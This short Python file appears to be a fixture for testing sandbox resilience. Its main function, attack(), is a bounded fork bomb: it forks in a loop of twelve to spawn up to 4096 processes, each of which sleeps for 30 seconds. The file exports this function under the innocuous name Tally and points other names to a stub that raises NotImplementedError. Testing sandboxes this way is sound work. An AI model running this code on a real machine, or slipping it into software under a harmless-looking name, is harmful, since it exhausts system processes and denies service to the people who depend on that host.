# aim: fork until the machine has no process left (at most 4096 here), and again in each child that lives
# needs: sandbox
import os
import time


def attack(*args):
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(30)
    return 0


def todo(*args):
    raise NotImplementedError("TODO")


Tally = attack
double = join = apply_all = refuse = todo
